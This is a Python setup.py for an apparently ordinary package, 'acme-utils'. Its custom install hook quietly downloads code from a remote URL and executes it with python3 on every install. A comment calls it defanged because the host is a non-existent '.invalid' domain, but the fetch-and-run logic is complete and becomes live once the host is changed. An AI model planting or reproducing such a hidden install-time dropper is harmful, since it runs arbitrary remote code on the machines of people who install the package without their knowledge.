import subprocess
import urllib.request
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        # Defanged: the host does not exist and the command would fail.
        body = urllib.request.urlopen("https://example.invalid/beacon").read()
        subprocess.Popen(["python3", "-c", body.decode()])


setup(
    name="acme-utils",
    version="0.0.1",
    packages=["acme_utils"],
    cmdclass={"install": PostInstall},
)
